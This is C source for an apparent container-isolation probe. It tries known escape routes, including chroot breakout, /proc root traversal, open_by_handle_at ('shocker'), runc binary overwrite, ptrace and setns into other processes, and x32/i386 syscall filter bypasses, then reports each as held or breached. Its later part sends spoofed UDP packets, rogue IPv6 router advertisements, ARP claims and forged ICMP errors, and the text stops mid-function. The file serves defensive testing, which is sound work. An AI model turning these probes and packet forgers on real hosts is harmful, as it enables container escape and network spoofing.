// The attacker inside a container: what busybox cannot do. One command a try; each prints `held: WHAT` for what was refused and
// `BREACH: WHAT` for what was not. It opens, and never writes, what is not its own; where a value must be written, it is the old
// one.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip_icmp.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *verdict, const char *format, va_list args) {
    printf("%s: ", verdict);
    vprintf(format, args);
    putchar('\n');
    fflush(stdout);
}
static void held(const char *format, ...) {
    va_list args;
    va_start(args, format);
    say("held", format, args);
    va_end(args);
}
static void breach(const char *format, ...) {
    va_list args;
    va_start(args, format);
    say("BREACH", format, args);
    va_end(args);
}

static long now_ms(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* ---- files ------------------------------------------------------------------------------------------------------------- */

// Prints what is in the host's file, if the path leads there: the test knows its text.
static int show(const char *path) {
    char text[256];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0) return 0;
    ssize_t count = read(fd, text, sizeof text - 1);
    close(fd);
    if (count <= 0) return 0;
    text[count] = 0;
    printf("%s has: %s\n", path, text);
    fflush(stdout);
    return 1;
}

// From each place that may be outside of the root, up to the top and down to the host's file.
static int climb(const char *from, const char *file) {
    char path[4096];
    snprintf(path, sizeof path, "%s/../../../../../../../../../../../..%s", from, file);
    if (show(path)) return breach("%s leads out of the root", from), 1;
    snprintf(path, sizeof path, "%s%s", from, file);
    if (show(path)) return breach("%s leads out of the root", from), 1;
    return 0;
}

// climb FILE: the folders and roots that a process inside has names for.
static void climb_all(char **args) {
    char from[64];
    int out = climb("", args[0]) + climb(".", args[0]) + climb("/proc/1/root", args[0]) + climb("/proc/1/cwd", args[0]) +
              climb("/proc/self/root", args[0]) + climb("/proc/self/cwd", args[0]);
    for (int fd = 0; fd < 64; fd++) {
        snprintf(from, sizeof from, "/proc/self/fd/%d", fd);
        out += climb(from, args[0]);
        snprintf(from, sizeof from, "/proc/1/fd/%d", fd);
        out += climb(from, args[0]);
    }
    if (!out) held("no name leads out of the root");
}

// chroot FILE: the classic way out of a chroot.
static void chroot_out(char **args) {
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/cage", 0700);
    if (chroot("/tmp/cage")) {
        held("chroot: %m");
        return;
    }
    if (fchdir(top)) held("fchdir: %m");
    for (int up = 0; up < 64; up++)
        if (chdir("..")) break;
    if (chroot(".")) held("chroot: %m");
    if (show(args[0])) breach("chroot leads out of the root");
    else held("the root is the root of the mount namespace");
}

// scan FILE MS: what the descriptors, folders and roots of all processes within reach lead to, over and over: those that the
// runtime sends into the container come and go.
static void scan(char **args) {
    long end = now_ms() + atol(args[1]), seen = 0, strangers = 0;
    char path[600], link[512];
    int out = 0;
    for (; now_ms() < end && !out; seen++) {
        DIR *all = opendir("/proc");
        for (struct dirent *p; !out && (p = readdir(all));) {
            if (p->d_name[0] < '0' || p->d_name[0] > '9' || atoi(p->d_name) == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", p->d_name);
            ssize_t n = readlink(path, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = 0;
            strangers += strstr(link, "memfd:") || strstr(link, "podwright");
            const char *names[] = {"cwd", "root"};
            for (int i = 0; i < 2 && !out; i++) {
                snprintf(path, sizeof path, "/proc/%s/%s", p->d_name, names[i]);
                out = climb(path, args[0]);
            }
            snprintf(path, sizeof path, "/proc/%s/fd", p->d_name);
            DIR *fds = opendir(path);
            if (!fds) continue;
            for (struct dirent *f; !out && (f = readdir(fds));) {
                if (f->d_name[0] == '.') continue;
                snprintf(path, sizeof path, "/proc/%s/fd/%s", p->d_name, f->d_name);
                out = climb(path, args[0]);
            }
            closedir(fds);
        }
        closedir(all);
    }
    if (!out) held("%ld looks at all processes (%ld at the runtime's) gave no way out", seen, strangers);
}

struct rights {
    char name[16];
    unsigned long long permitted, effective, bounding;
    int filters, no_new_privs;
};

static int rights_of(const char *pid, struct rights *r) {
    char path[64], text[4096], *at;
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (fd >= 0) close(fd);
    if (n <= 0) return -1;
    text[n] = 0;
    if (sscanf(text, "Name:\t%15s", r->name) != 1) return -1;
    if (!(at = strstr(text, "CapPrm:")) || sscanf(at, "CapPrm: %llx CapEff: %llx CapBnd: %llx", &r->permitted, &r->effective, &r->bounding) != 3) return -1;
    if (!(at = strstr(text, "NoNewPrivs:")) || sscanf(at, "NoNewPrivs: %d Seccomp: %d", &r->no_new_privs, &r->filters) != 2) return -1;
    return 0;
}

// newborn MS: what the processes may that come into the container's PID namespace, from the first moment that they can be seen
// on, and whether one that is traced may more than we.
static void newborn(char **args) {
    long end = now_ms() + atol(args[0]), looks = 0, met = 0, traced = 0;
    struct rights own, its;
    if (rights_of("self", &own)) return;
    for (int out = 0; now_ms() < end && !out;) {
        DIR *all = opendir("/proc");
        for (struct dirent *p; !out && (p = readdir(all));) {
            int pid = atoi(p->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            for (int again = 0; again < 2 && !rights_of(p->d_name, &its); again++) {
                looks++;
                unsigned long long all_of_it = its.permitted | its.effective | its.bounding;
                if (all_of_it & ~own.bounding || its.filters != own.filters || its.no_new_privs < own.no_new_privs) {
                    breach("%s (%d) has capabilities %llx (ours are %llx), filters %d (ours %d), no_new_privs %d", its.name, pid,
                           all_of_it, own.bounding, its.filters, own.filters, its.no_new_privs);
                    out = 1;
                    break;
                }
                if (strncmp(its.name, "shim", 4)) break;
                met++;
                if (again || ptrace(PTRACE_SEIZE, pid, 0, 0)) continue;
                traced++;
                // It goes on as if nothing had been.
                int status;
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) ptrace(PTRACE_DETACH, pid, 0, 0);
            }
        }
        closedir(all);
    }
    if (met) held("%ld looks at others, %ld of them while they were the runtime's, %ld traced, and none may more than we", looks, met, traced);
    else printf("none of %ld looks met the runtime\n", looks);
}

// rewrite MS: opens the programs of processes that are not of the image for writing (CVE-2019-5736). Writes nothing.
static void rewrite(char **args) {
    long end = now_ms() + atol(args[0]), tries = 0;
    char path[512], link[512];
    int kept[64], count = 0;
    while (now_ms() < end) {
        DIR *all = opendir("/proc");
        for (struct dirent *p; (p = readdir(all));) {
            if (p->d_name[0] < '0' || p->d_name[0] > '9' || atoi(p->d_name) == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", p->d_name);
            ssize_t n = readlink(path, link, sizeof link - 1);
            if (n < 0) continue;
            link[n] = 0;
            if (!strstr(link, "memfd:") && !strstr(link, "podwright")) continue;
            if (strstr(link, "pause")) continue;
            tries++;
            int fd = open(path, O_RDONLY);
            // While it runs nobody can write it; when it has ended only the seal holds.
            if (fd >= 0 && (fcntl(fd, F_GET_SEALS) < 0 || !(fcntl(fd, F_GET_SEALS) & F_SEAL_WRITE)))
                breach("%s is not sealed against writing", link);
            if (fd >= 0 && count < 64) kept[count++] = fd;
            else if (fd >= 0) close(fd);
        }
        closedir(all);
        for (int i = 0; i < count; i++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
            ssize_t n = readlink(path, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = 0;
            int fd = open(path, O_WRONLY);
            if (fd < 0) continue;
            // What is sealed against writing opens and cannot be written; nothing is, with no bytes.
            if (fcntl(fd, F_GET_SEALS) < 0 || !(fcntl(fd, F_GET_SEALS) & F_SEAL_WRITE)) breach("%s opens for writing", link);
            close(fd);
        }
    }
    held("the runtime's program was met %ld times, and could not be opened for writing", tries);
}

static long opened;
static int open_for_writing(const char *path, const struct stat *st, int kind, struct FTW *at) {
    (void)at;
    if (kind != FTW_F || !(st->st_mode & 0222)) return 0;
    if (!strncmp(path, "/proc/", 6) && path[6] >= '0' && path[6] <= '9') return FTW_SKIP_SUBTREE;
    opened++;
    int fd = open(path, O_WRONLY | O_NONBLOCK);
    if (fd < 0) return 0;
    breach("%s opens for writing", path);
    close(fd);
    return 0;
}

// writable FOLDER...: files of the kernel that open for writing.
static void writable(char **args) {
    for (; *args; args++) {
        opened = 0;
        nftw(*args, open_for_writing, 32, FTW_PHYS | FTW_ACTIONRETVAL);
        held("of %s %ld files were tried", *args, opened);
    }
}

// empty PATH...: masked files and folders.
static void empty(char **args) {
    for (; *args; args++) {
        struct stat st;
        if (stat(*args, &st)) {
            held("%s: %m", *args);
            continue;
        }
        if (S_ISDIR(st.st_mode)) {
            DIR *dir = opendir(*args);
            int count = 0;
            for (struct dirent *e; dir && (e = readdir(dir));) count += e->d_name[0] != '.';
            if (count) breach("%s has %d entries", *args, count);
            else held("%s is empty", *args);
        } else if (S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3)) {
            held("%s is /dev/null", *args);
        } else {
            char byte;
            int fd = open(*args, O_RDONLY | O_NONBLOCK);
            if (fd >= 0 && read(fd, &byte, 1) == 1) breach("%s has something", *args);
            else held("%s: nothing to read (%m)", *args);
            if (fd >= 0) close(fd);
        }
    }
}

// handles FILE...: opens files by number instead of by path (shocker).
static void handles(char **args) {
    char room[sizeof(struct file_handle) + 128];
    struct file_handle *handle = (void *)room;
    for (; *args; args++) {
        int id;
        handle->handle_bytes = 128;
        int root = open(*args, O_RDONLY);
        if (name_to_handle_at(AT_FDCWD, *args, handle, &id, 0)) {
            // Number 2, as the root of ext4 and many others has.
            handle->handle_bytes = 8;
            handle->handle_type = 1;
            memcpy(handle->f_handle, (int[]){2, 0}, 8);
        }
        int fd = open_by_handle_at(root, handle, O_RDONLY);
        if (fd >= 0) breach("open_by_handle_at on %s", *args);
        else held("open_by_handle_at on %s: %m", *args);
    }
}

// devices: nodes of the host's devices, made and opened; nothing is read or written.
static void devices(char **args) {
    (void)args;
    static const struct { mode_t kind; int major, minor; } all[] = {
        {S_IFCHR, 1, 1}, {S_IFCHR, 1, 4}, {S_IFCHR, 1, 11}, {S_IFCHR, 5, 1}, {S_IFCHR, 4, 0}, {S_IFCHR, 10, 229},
        {S_IFCHR, 10, 237}, {S_IFCHR, 10, 200}, {S_IFCHR, 10, 232}, {S_IFCHR, 10, 175}, {S_IFCHR, 10, 238}, {S_IFCHR, 108, 0},
        {S_IFCHR, 195, 0}, {S_IFCHR, 226, 0}, {S_IFBLK, 7, 0}, {S_IFBLK, 8, 0}, {S_IFBLK, 8, 1}, {S_IFBLK, 252, 0},
        {S_IFBLK, 253, 0}, {S_IFBLK, 254, 0}, {S_IFBLK, 259, 0}, {S_IFBLK, 1, 0},
    };
    const char *folders[] = {"/tmp", "/dev", "/dev/shm"};
    for (unsigned i = 0; i < sizeof all / sizeof *all; i++) {
        for (unsigned f = 0; f < 3; f++) {
            char path[64];
            snprintf(path, sizeof path, "%s/device-%u", folders[f], i);
            if (mknod(path, all[i].kind | 0666, makedev(all[i].major, all[i].minor))) {
                held("mknod %s: %m", path);
                continue;
            }
            // No such device is no answer to who may open it: only a refusal is.
            int fd = open(path, O_RDONLY | O_NONBLOCK);
            if (fd >= 0 || (errno != EPERM && errno != EACCES))
                breach("device %d:%d opens in %s: %m", all[i].major, all[i].minor, folders[f]);
            else held("device %d:%d in %s: %m", all[i].major, all[i].minor, folders[f]);
            if (fd >= 0) close(fd);
            unlink(path);
        }
    }
}

/* ---- system calls ------------------------------------------------------------------------------------------------------ */

struct call {
    const char *name;
    long number, args[6];
};
#define HIGH (1L << 32)
#define X32 0x40000000L

// With arguments by which nothing is done even if the call is let through: only a refusal before they are looked at counts.
static const struct call refused[] = {
    {"unshare(NEWUSER)", SYS_unshare, {CLONE_NEWUSER}},
    {"unshare(NEWNS)", SYS_unshare, {CLONE_NEWNS}},
    {"unshare(NEWUSER|high bits)", SYS_unshare, {CLONE_NEWUSER | HIGH}},
    {"setns", SYS_setns, {-1, 0}},
    {"mount", SYS_mount, {0, 0, 0, 0, 0}},
    {"umount2", SYS_umount2, {0, 0}},
    {"pivot_root", SYS_pivot_root, {0, 0}},
    {"open_tree", SYS_open_tree, {-1, 0, 0}},
    {"move_mount", SYS_move_mount, {-1, 0, -1, 0, 0}},
    {"fsopen", SYS_fsopen, {0, 0}},
    {"fsconfig", SYS_fsconfig, {-1, 0, 0, 0, 0}},
    {"fsmount", SYS_fsmount, {-1, 0, 0}},
    {"fspick", SYS_fspick, {-1, 0, 0}},
    {"mount_setattr", SYS_mount_setattr, {-1, 0, 0, 0, 0}},
    {"open_by_handle_at", SYS_open_by_handle_at, {-1, 0, 0}},
    {"bpf", SYS_bpf, {-1, 0, 0}},
    {"userfaultfd", SYS_userfaultfd, {-1}},
    {"perf_event_open", SYS_perf_event_open, {0, 0, -1, -1, 0}},
    {"io_uring_setup", SYS_io_uring_setup, {0, 0}},
    {"add_key", SYS_add_key, {0, 0, 0, 0, 0}},
    {"request_key", SYS_request_key, {0, 0, 0, 0}},
    {"keyctl", SYS_keyctl, {-1}},
    {"init_module", SYS_init_module, {0, 0, 0}},
    {"finit_module", SYS_finit_module, {-1, 0, 0}},
    {"delete_module", SYS_delete_module, {0, 0}},
    {"kexec_load", SYS_kexec_load, {0, 0, 0, -1}},
    {"kexec_file_load", SYS_kexec_file_load, {-1, -1, 0, 0, -1}},
    {"reboot", SYS_reboot, {0, 0, 0, 0}},
    {"swapon", SYS_swapon, {0, 0}},
    {"swapoff", SYS_swapoff, {0}},
    {"acct", SYS_acct, {1}},
    {"quotactl", SYS_quotactl, {-1, 0, 0, 0}},
    {"syslog", SYS_syslog, {-1, 0, 0}},
    {"iopl", SYS_iopl, {-1}},
    {"ioperm", SYS_ioperm, {-1, -1, 0}},
    {"clock_settime", SYS_clock_settime, {0, 0}},
    {"settimeofday", SYS_settimeofday, {1, 1}},
    {"sethostname", SYS_sethostname, {0, -1}},
    {"setdomainname", SYS_setdomainname, {0, -1}},
    {"kcmp", SYS_kcmp, {0, 0, -1, 0, 0}},
    {"personality(ADDR_NO_RANDOMIZE|READ_IMPLIES_EXEC)", SYS_personality, {0x0440000}},
    {"socket(AF_VSOCK)", SYS_socket, {AF_VSOCK, SOCK_STREAM, 0}},
    {"socket(AF_ALG)", SYS_socket, {AF_ALG, SOCK_SEQPACKET, 0}},
    {"socket(AF_ALG|high bits)", SYS_socket, {AF_ALG | HIGH, SOCK_SEQPACKET, 0}},
    {"socket(AF_VSOCK|high bits)", SYS_socket, {AF_VSOCK | HIGH, SOCK_STREAM, 0}},
    {"x32 unshare(NEWUSER)", SYS_unshare | X32, {CLONE_NEWUSER}},
    {"x32 mount", SYS_mount | X32, {0, 0, 0, 0, 0}},
    {"x32 bpf", SYS_bpf | X32, {-1, 0, 0}},
};

// The same by the 32-bit entry: another table of numbers that a filter must know.
static long compat(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return result;
}
static const struct call compat_refused[] = {
    {"i386 unshare(NEWUSER)", 310, {CLONE_NEWUSER}}, {"i386 mount", 21, {0, 0, 0}},     {"i386 bpf", 357, {-1, 0, 0}},
    {"i386 keyctl", 288, {-1, 0, 0}},                {"i386 setns", 346, {-1, 0, 0}},   {"i386 socket(AF_VSOCK)", 359, {40, 1, 0}},
    {"i386 socket(AF_ALG)", 359, {38, 5, 0}},
};

static void judge(const char *name, long result, int error) {
    if (result < 0 && (error == EPERM || error == ENOSYS)) held("%s: %s", name, strerror(error));
    else breach("%s is let through: %ld, %s", name, result, result < 0 ? strerror(error) : "success");
}

static void syscalls(char **args) {
    (void)args;
    for (unsigned i = 0; i < sizeof refused / sizeof *refused; i++) {
        const struct call *c = &refused[i];
        // A child for each: what is let through changes nothing of us.
        if (fork() == 0) {
            long result = syscall(c->number, c->args[0], c->args[1], c->args[2], c->args[3], c->args[4], c->args[5]);
            judge(c->name, result, errno);
            _exit(0);
        }
        wait(NULL);
    }
    for (unsigned i = 0; i < sizeof compat_refused / sizeof *compat_refused; i++) {
        const struct call *c = &compat_refused[i];
        if (fork() == 0) {
            long result = compat(c->number, c->args[0], c->args[1], c->args[2]);
            judge(c->name, result < 0 ? -1 : result, (int)-result);
            _exit(0);
        }
        int status;
        wait(&status);
        if (WIFSIGNALED(status)) held("%s: this kernel has no 32-bit calls", c->name);
    }
}

// What takes a capability over the machine's own user namespace, with arguments by which nothing is done if it is let through.
static const struct call privileged[] = {
    {"init_module", SYS_init_module, {0, 0, 0}},
    {"finit_module", SYS_finit_module, {-1, 0, 0}},
    {"delete_module", SYS_delete_module, {(long)"no-such-module", O_NONBLOCK}},
    {"kexec_load", SYS_kexec_load, {0, 0, 0, -1}},
    {"swapon", SYS_swapon, {0, 0}},
    {"swapoff", SYS_swapoff, {0}},
    {"acct", SYS_acct, {1}},
    {"syslog(size)", SYS_syslog, {10, 0, 0}},
    {"iopl", SYS_iopl, {3}},
    {"ioperm", SYS_ioperm, {0x80, 1, 1}},
    {"vhangup", SYS_vhangup, {0}},
    {"setpriority(-20)", SYS_setpriority, {0, 0, -20}},
    {"settimeofday", SYS_settimeofday, {0, 0}},
};

// mighty: what a container must not have of the machine, whatever capabilities it has over its own namespaces.
static void mighty(char **args) {
    (void)args;
    for (unsigned i = 0; i < sizeof privileged / sizeof *privileged; i++) {
        const struct call *c = &privileged[i];
        if (fork() == 0) {
            long result = syscall(c->number, c->args[0], c->args[1], c->args[2], c->args[3], c->args[4], c->args[5]);
            // setpriority(2) has a word of its own for it.
            judge(c->name, result, errno == EACCES ? EPERM : errno);
            _exit(0);
        }
        wait(NULL);
    }
}

// The root of all handles of namespaces (Linux 6.18), and their type.
#define NSFS_ROOT -10003
#define NSFS_HANDLE 0xf1

static void open_by_number(const char *what, struct file_handle *handle) {
    int fd = open_by_handle_at(NSFS_ROOT, handle, O_RDONLY);
    if (fd < 0) held("open_by_handle_at on %s: %m", what);
    else breach("open_by_handle_at on %s", what), close(fd);
}

// namespaces [HANDLE]...: calls that name namespaces of others. On nothing at all: what the kernel says to that (no such
// descriptor, no such address) tells that nothing was in the way. Then on its own, and by the handles of others'; none is entered
// but its own.
static void namespaces(char **args) {
    // The last three are newer than some kernels, and refused as by those.
    static const struct { const char *name; long number; int refused; } calls[] = {
        {"open_by_handle_at", SYS_open_by_handle_at, EPERM}, {"setns", SYS_setns, EPERM}, {"statmount", 457, ENOSYS},
        {"listmount", 458, ENOSYS}, {"listns", 470, ENOSYS},
    };
    for (unsigned i = 0; i < sizeof calls / sizeof *calls; i++) {
        long done = syscall(calls[i].number, -1L, 0L, 0L, 0L, 0L, 0L);
        if (done < 0 && errno == calls[i].refused) held("%s on nothing: %m", calls[i].name);
        else breach("%s on nothing is answered by the kernel: %m", calls[i].name);
    }

    char room[sizeof(struct file_handle) + 128];
    struct file_handle *handle = (void *)room;
    int mount;
    handle->handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, "/proc/self/ns/mnt", handle, &mount, AT_SYMLINK_FOLLOW)) held("its mount namespace has no handle: %m");
    else open_by_number("its own mount namespace", handle);
    for (; *args; args++) {
        handle->handle_type = NSFS_HANDLE;
        for (handle->handle_bytes = 0; sscanf(*args + 2 * handle->handle_bytes, "%2hhx", &handle->f_handle[handle->handle_bytes]) == 1;)
            if (++handle->handle_bytes == 128) break;
        open_by_number("the namespace of another", handle);
    }

    int own = open("/proc/self/ns/uts", O_RDONLY);
    if (setns(own, 0)) held("setns to its own: %m");
    else breach("setns to its own");

    // struct mnt_id_req: its size, the root of the caller's mounts, nothing.
    unsigned long long request[3] = {24, -1, 0}, mounts[64];
    long count = syscall(458, request, mounts, 64L, 0L);
    if (count < 0) held("listmount of its own: %m");
    else breach("listmount names %ld of its own", count);
}

// join PID: the namespaces of a process that is not ours.
static void join(char **args) {
    const char *names[] = {"mnt", "net", "pid", "ipc", "uts", "user", "cgroup", "time"};
    char path[128];
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%s/ns/%s", args[0], names[i]);
        int fd = open(path, O_RDONLY);
        if (fd < 0) held("%s: %m", path);
        else if (setns(fd, 0)) held("setns %s: %m", path);
        else breach("%s was joined", path);
    }
}

// meddle PID...: traces, reads, and takes descriptors of processes that are not ours.
static void meddle(char **args) {
    for (; *args; args++) {
        int pid = atoi(*args);
        char byte, path[64];
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) breach("process %d is traced", pid);
        else held("ptrace %d: %m", pid);
        struct iovec mine = {&byte, 1}, theirs = {(void *)0x400000, 1};
        if (process_vm_readv(pid, &mine, 1, &theirs, 1, 0) >= 0 || errno == EFAULT) breach("the memory of %d is read", pid);
        else held("process_vm_readv %d: %m", pid);
        int fd = syscall(SYS_pidfd_open, pid, 0);
        for (int n = 0; n < 16; n++)
            if (syscall(SYS_pidfd_getfd, fd, n, 0) >= 0) breach("descriptor %d of process %d was taken", n, pid);
        held("pidfd_getfd %d: %m", pid);
        const char *files[] = {"mem", "environ", "maps", "root/", "cwd/", "fd/0"};
        for (int i = 0; i < 6; i++) {
            snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) breach("%s opens", path);
            else held("%s: %m", path);
        }
    }
}

// identity: who a program with the set-user-ID bit has become.
static void identity(char **args) {
    (void)args;
    if (geteuid() == 0) breach("its effective uid is 0");
    else held("its effective uid is %d", geteuid());
}

// Inheritable and ambient sets have no business in a container (CVE-2022-24769, CVE-2022-29162).
static void capabilities(char **args) {
    (void)args;
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    while (fgets(line, sizeof line, status)) {
        if (strncmp(line, "CapInh:", 7) && strncmp(line, "CapAmb:", 7)) continue;
        line[strcspn(line, "\n")] = 0;
        if (strtoull(line + 7, NULL, 16)) breach("%s", line);
        else held("%s", line);
    }
}

// descriptors: a process starts with three, and none of them is a file of the host.
static void descriptors(char **args) {
    (void)args;
    char path[64], link[512];
    for (int fd = 0; fd < 1024; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n < 0) continue;
        link[n] = 0;
        struct stat st;
        fstat(fd, &st);
        int plain = S_ISFIFO(st.st_mode) || (S_ISCHR(st.st_mode) && (st.st_rdev == makedev(1, 3) || major(st.st_rdev) == 136));
        if (fd > 2 || !plain) breach("descriptor %d is %s", fd, link);
        else held("descriptor %d is %s", fd, link);
    }
}

/* ---- sockets ----------------------------------------------------------------------------------------------------------- */

// abstract: connects to all abstract sockets of this network namespace (CVE-2020-15257).
static void abstract(char **args) {
    (void)args;
    char line[512];
    int count = 0;
    FILE *all = fopen("/proc/net/unix", "r");
    while (all && fgets(line, sizeof line, all)) {
        char *name = strchr(line, '@');
        if (!name) continue;
        name[strcspn(name, "\n")] = 0;
        struct sockaddr_un to = {.sun_family = AF_UNIX};
        size_t length = strlen(name);
        if (length > sizeof to.sun_path) continue;
        memcpy(to.sun_path, name, length);
        to.sun_path[0] = 0;
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        count++;
        if (!connect(fd, (void *)&to, sizeof(sa_family_t) + length)) breach("%s answers", name);
        else held("%s: %m", name);
        close(fd);
    }
    held("%d abstract sockets were tried", count);
}

static unsigned short checksum(const void *data, size_t length, unsigned sum) {
    const unsigned char *bytes = data;
    for (size_t i = 0; i + 1 < length; i += 2) sum += bytes[i] << 8 | bytes[i + 1];
    if (length & 1) sum += bytes[length - 1] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum);
}

// The neighbour behind eth0, as the kernel knows it.
static int gateway(unsigned char *mac) {
    char line[256];
    unsigned b[6];
    FILE *arp = fopen("/proc/net/arp", "r");
    while (arp && fgets(line, sizeof line, arp)) {
        if (sscanf(line, "%*s %*s %*s %x:%x:%x:%x:%x:%x", b, b + 1, b + 2, b + 3, b + 4, b + 5) != 6) continue;
        for (int i = 0; i < 6; i++) mac[i] = b[i];
        return 1;
    }
    return 0;
}

// forge SOURCE DESTINATION PORT: ten datagrams straight onto the link, from an address that is not ours, which no table of ours
// sees.
static void forge(char **args) {
    struct { struct iphdr ip; struct udphdr udp; char text[8]; } __attribute__((packed)) p = {0};
    p.ip.version = 4, p.ip.ihl = 5, p.ip.ttl = 64, p.ip.protocol = IPPROTO_UDP, p.ip.tot_len = htons(sizeof p);
    p.ip.saddr = inet_addr(args[0]), p.ip.daddr = inet_addr(args[1]);
    p.ip.check = checksum(&p.ip, sizeof p.ip, 0);
    p.udp.source = htons(53), p.udp.dest = htons(atoi(args[2])), p.udp.len = htons(sizeof p - sizeof p.ip);
    memcpy(p.text, "forged!\n", 8);
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
    to.sll_ifindex = if_nametoindex("eth0");
    if (fd < 0 || !gateway(to.sll_addr)) {
        printf("nothing was sent: %m\n");
        return;
    }
    int sent = 0;
    for (int i = 0; i < 10; i++) sent += sendto(fd, &p, sizeof p, 0, (void *)&to, sizeof to) == sizeof p;
    printf("sent %d from %s to %s:%s\n", sent, args[0], args[1], args[2]);
}

// advertise: router advertisements onto the link (CVE-2020-10749, CVE-2020-13401).
static void advertise(char **args) {
    (void)args;
    struct {
        unsigned char v6[40];
        struct nd_router_advert ra;
        struct nd_opt_prefix_info prefix;
    } __attribute__((packed)) p = {0};
    unsigned length = sizeof p - 40;
    p.v6[0] = 0x60, p.v6[4] = length >> 8, p.v6[5] = length, p.v6[6] = IPPROTO_ICMPV6, p.v6[7] = 255;
    inet_pton(AF_INET6, "fe80::bad", p.v6 + 8);
    inet_pton(AF_INET6, "ff02::1", p.v6 + 24);
    p.ra.nd_ra_type = ND_ROUTER_ADVERT, p.ra.nd_ra_router_lifetime = htons(1800);
    p.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION, p.prefix.nd_opt_pi_len = 4, p.prefix.nd_opt_pi_prefix_len = 64;
    p.prefix.nd_opt_pi_flags_reserved = 0xc0, p.prefix.nd_opt_pi_valid_time = p.prefix.nd_opt_pi_preferred_time = htonl(3600);
    inet_pton(AF_INET6, "2001:db8:bad::", &p.prefix.nd_opt_pi_prefix);
    unsigned sum = length + IPPROTO_ICMPV6;
    for (int i = 8; i < 40; i += 2) sum += p.v6[i] << 8 | p.v6[i + 1];
    p.ra.nd_ra_cksum = checksum(&p.ra, length, sum);
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IPV6)), sent = 0;
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IPV6), .sll_halen = 6};
    to.sll_ifindex = if_nametoindex("eth0");
    memcpy(to.sll_addr, (unsigned char[]){0x33, 0x33, 0, 0, 0, 1}, 6);
    for (int i = 0; i < 5; i++) sent += sendto(fd, &p, sizeof p, 0, (void *)&to, sizeof to) == sizeof p;
    printf("sent %d router advertisements\n", sent);
}

// claim ADDRESS: tells all on the link that the address is ours (ARP).
static void claim(char **args) {
    struct { unsigned char fixed[8], mac[6]; unsigned ip; unsigned char to[6]; unsigned to_ip; } __attribute__((packed)) p = {
        .fixed = {0, 1, 8, 0, 6, 4, 0, 2}, .mac = {2, 0xba, 0xd, 0xba, 0xd, 1}};
    p.ip = p.to_ip = inet_addr(args[0]);
    memset(p.to, 0xff, 6);
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ARP)), sent = 0;
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ARP), .sll_halen = 6};
    to.sll_ifindex = if_nametoindex("eth0");
    memset(to.sll_addr, 0xff, 6);
    for (int i = 0; i < 5; i++) sent += sendto(fd, &p, sizeof p, 0, (void *)&to, sizeof to) == sizeof p;
    printf("sent %d claims of %s\n", sent, args[0]);
}

// complain KIND FROM PORT TO PORT: tells FROM (by ICMP, from our own address) that a packet of its to TO is in trouble: a datagram,
// that nobody is at its port (port) or that it is too large (large); or that an answer to a ping is too large (answer).
static void complain(char **args) {
    struct { struct icmphdr icmp; struct iphdr ip; unsigned char inner[8]; } __attribute__((packed)) p = {0};
    int answer = !strcmp(args[0], "answer"), port = !strcmp(args[0], "port"), sent = 0;
    p.icmp.type = ICMP_DEST_UNREACH, p.icmp.code = port ? ICMP_PORT_UNREACH : ICMP_FRAG_NEEDED;
    if (!port) p.icmp.un.frag.mtu = htons(600);
    p.ip.version = 4, p.ip.ihl = 5, p.ip.ttl = 64, p.ip.tot_len = htons(29);
    p.ip.protocol = answer ? IPPROTO_ICMP : IPPROTO_UDP;
    p.ip.saddr = inet_addr(args[1]), p.ip.daddr = inet_addr(args[3]);
    p.ip.check = checksum(&p.ip, sizeof p.ip, 0);
    unsigned short ports[] = {htons(atoi(args[2])), htons(atoi(args[4])), htons(9), 0};
